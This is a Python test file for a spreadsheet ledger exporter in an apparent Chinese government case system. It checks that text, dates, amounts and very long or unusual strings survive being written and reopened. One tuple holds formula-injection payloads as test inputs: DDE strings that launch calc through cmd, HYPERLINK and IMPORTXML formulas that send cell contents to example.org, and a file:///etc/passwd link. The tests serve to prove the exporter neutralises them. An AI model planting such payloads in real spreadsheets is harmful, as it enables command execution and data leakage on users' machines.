"""A ledger opened again holds what went in: texts to the last character, days as days, numbers as numbers."""

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from qinqing.kernel.actors import Role
from qinqing.services.documents.rules.ledgers import Column, Kind, Ledger, Provenance
from qinqing.services.documents.rules.ledgers.cells import number_of, pieces
from qinqing.services.documents.rules.ledgers.writing import write

AT = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
ORIGIN = Provenance("清源县", "韦小兰（受理岗）", AT, [("办理", "在办")])
COLUMNS = (
    Column("编号"),
    Column("内容", 40),
    Column("日期", 12, Kind.DATE),
    Column("时间", 17, Kind.DATETIME),
    Column("件数", 8, Kind.NUMBER),
    Column("金额", 16, Kind.AMOUNT),
)
LEDGER = Ledger("things", "事项台账", COLUMNS, frozenset({Role.INTAKE}))
TEXTS = Ledger("texts", "文字台账", (Column("编号"), Column("内容", 40)), LEDGER.readers)
BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    "''=",
    " =",
    "\ufeff=",
    "%",
    "|",
    ";",
    ",=",
    '"=',
)
FORMULAS = (
    *(f"{sign}1+1" for sign in BEGINNINGS),
    *(f"{sign}cmd|' /C calc'!A0" for sign in BEGINNINGS),
    '=HYPERLINK("http://example.org?x="&A1,"点这里")', "=WEBSERVICE(\"http://example.org\")", "=DDE(\"cmd\";\"/C calc\";1)",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://\",A1),\"//a\")", "#N/A", "#REF!", "#VALUE!", "#DIV/0!",
    "{=SUM(A1:A9)}", "=1+1\n=2+2", "http://example.org", "mailto:a@b.cn", "file:///etc/passwd", "1e5", "00123",
    "2026-11-23", "TRUE", "450102199003078888", "<b>&amp;</b>", "]]>", "_x0041_", "_x005F_x0041_",
)  # fmt: skip
RARE = (
    "𠮷野家𪚥",
    "喆堃玥昇镕邨",
    "👨\u200d👩\u200d👧",
    "e\u0301",
    "\u202e倒过来",
    "第一行\n第二行\n\n第四行",
    " 前后有空格 ",
    "\ue000自造字",
)


def book_of(ledger, rows, **options):
    """The ledger written and opened again, with its raw sheets."""
    file = io.BytesIO()
    count = write(file, ledger, rows, ORIGIN, **options)
    assert count == len(rows)
    return openpyxl.load_workbook(io.BytesIO(file.getvalue())), zipfile.ZipFile(file)


def texts_of(*texts):
    book, raw = book_of(TEXTS, [(str(place), text) for place, text in enumerate(texts)])
    return book, raw, [row[1] for row in book["文字台账"].iter_rows(min_row=2)]


def test_sixty_formulas_stay_the_texts_they_are():
    """D1: no cell is a formula or an error on reopening; the text comes back exactly."""
    assert len(FORMULAS) >= 60
    book, raw, cells = texts_of(*FORMULAS)
    assert [unescape(cell.value) for cell in cells] == list(FORMULAS)
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value} <= {
        "s",
        "n",
        "d",
    }
    assert {cell.data_type for cell in cells} == {"s"}
    for name in raw.namelist():
        content = raw.read(name)
        assert b"<f>" not in content
        assert b"ExternalLink" not in content
        assert b'TargetMode="External"' not in content


@pytest.mark.parametrize("text", ["=1+1", "+8613", "-1", "@all", "\tx", "＝1"])
def test_a_text_that_begins_like_a_formula_stays_text_when_somebody_edits_it(text):
    _, _, (cell,) = texts_of(text)
    assert cell.quotePrefix


def test_forty_thousand_characters_are_all_there():
    """D3: nothing is cut; what does not fit the cell goes on in 续文, and the cell says so."""
    long = "企业反映用电受限。" * 4444 + "\n𠮷" * 2
    assert len(long) > 40_000 - 10
    book, _, cells = texts_of("短", long, "=" + long)
    for cell, text in zip(cells[1:], (long, "=" + long), strict=True):
        assert "……（未完，下接“续文”表第" in cell.value
        first = cell.value.rpartition("……（未完")[0]
        rest = [row[4] for row in book["续文"].iter_rows(min_row=2, values_only=True) if row[1] == cell.row]
        assert first + "".join(rest) == text
    assert max(len(cell.value.encode("utf-16-le")) // 2 for cell in cells) <= 32_767
    assert book["续文"]["A2"].value == "文字台账"
    assert book["续文"]["C2"].value == "内容"
    assert "段文字超过单元格上限" in "".join(str(row[1]) for row in book["说明"].iter_rows(values_only=True))


def test_a_character_of_two_units_is_not_torn():
    assert list(pieces("a𠮷𠮷b", room=2)) == ["a", "𠮷", "𠮷", "b"]
    assert "".join(pieces("字𠮷" * 100_000)) == "字𠮷" * 100_000


def test_rare_characters_and_line_breaks_come_back():
    _, _, cells = texts_of(*RARE)
    assert [cell.value for cell in cells] == list(RARE)


def test_what_xml_cannot_hold_is_kept_where_it_can_be():
    odd = "甲" + "".join(map(chr, [0, 1, 8, 11, 12, 13, 27, 31, 127, 133, 159])) + "乙\ufffe\uffff"
    _, _, (cell, broken) = texts_of(odd, "前\ud83d后")
    assert unescape(cell.value) == odd
    assert broken.value == "前\ufffd后"


def test_days_moments_numbers_and_amounts_are_real():
    row = ("A-1", "正常", date(2026, 12, 25), datetime(2026, 11, 23, 16, 30, tzinfo=UTC), 7, Decimal("1234567.89"))
    book, _ = book_of(LEDGER, [row, ("A-2", None, AT, None, None, Decimal(0)), ("A-3", "", None, None, 0, None)])
    sheet = book["事项台账"]
    assert sheet["C2"].value == datetime(2026, 12, 25)
    assert sheet["C3"].value == datetime(2026, 11, 23)  # a moment in a column of days is the day it falls on here
    assert sheet["D2"].value == datetime(2026, 11, 24, 0, 30)  # as Shanghai's clocks show it
    assert sheet["E2"].value == 7
    assert sheet["F2"].value == 1234567.89
    assert sheet["F2"].number_format == "#,##0.00"
    assert [sheet[place].is_date for place in ("C2", "D2")] == [True, True]
    assert sheet["B3"].value is None
    assert sheet["F3"].value == 0
    assert sheet["E4"].value == 0


def test_what_a_spreadsheet_has_no_number_for_is_written_out():
    book, _ = book_of(LEDGER, [("A-1", "", date(1899, 1, 1), None, 2**70, Decimal("999999999999999.99"))])
    sheet = book["事项台账"]
    assert [sheet[place].value for place in ("C2", "E2", "F2")] == ["1899-01-01", str(2**70), "999999999999999.99"]
    assert number_of(Decimal("0.1")) == 0.1
    assert number_of(True) is number_of("1") is number_of(Decimal("NaN")) is None


def test_the_heading_stays_in_sight_and_filters():
    book, _ = book_of(LEDGER, [("A-1", "", None, None, 1, None)] * 3)
    sheet = book["事项台账"]
    assert [cell.value for cell in sheet[1]] == [column.title for column in COLUMNS]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F4"


def test_more_rows_than_a_sheet_holds_go_on_in_the_next():
    rows = [(str(number), "字" * 33_000 if number % 3 == 0 else "短") for number in range(10)]
    book, _ = book_of(TEXTS, rows, most=4)
    sheets = [name for name in book.sheetnames if name.startswith("文字台账")]
    assert sheets == ["文字台账", "文字台账（2）", "文字台账（3）", "文字台账（4）"]
    found = [row[0] for name in sheets for row in book[name].iter_rows(min_row=2, values_only=True)]
    assert found == [row[0] for row in rows]
    rest = [
        row
        for name in book.sheetnames
        if name.startswith("续文")
        for row in book[name].iter_rows(min_row=2, values_only=True)
    ]
    assert [(row[0], row[1]) for row in rest] == [
        ("文字台账", 2), ("文字台账（2）", 2), ("文字台账（3）", 2), ("文字台账（4）", 2)
    ]  # fmt: skip
    assert book["文字台账（2）"].freeze_panes == "A2"
    assert book["文字台账（2）"].auto_filter.ref == "A1:B4"


def test_the_last_sheet_says_where_it_comes_from():
    book, _ = book_of(LEDGER, [])
    told = dict(row[:2] for row in book["说明"].iter_rows(min_row=2, values_only=True))
    assert (told["单位"], told["导出人"], told["筛选"], told["行数"]) == ("清源县", "韦小兰（受理岗）", "办理：在办", 0)
    assert told["导出时间"] == datetime(2026, 11, 23, 10, 0)


def test_rows_are_asked_for_one_after_another():
    """Nothing gathers the rows: when one fails, those before it had been written."""

    def rows():
        yield "1", "甲"
        raise LookupError("乙")

    with pytest.raises(LookupError):
        write(io.BytesIO(), TEXTS, rows(), ORIGIN)
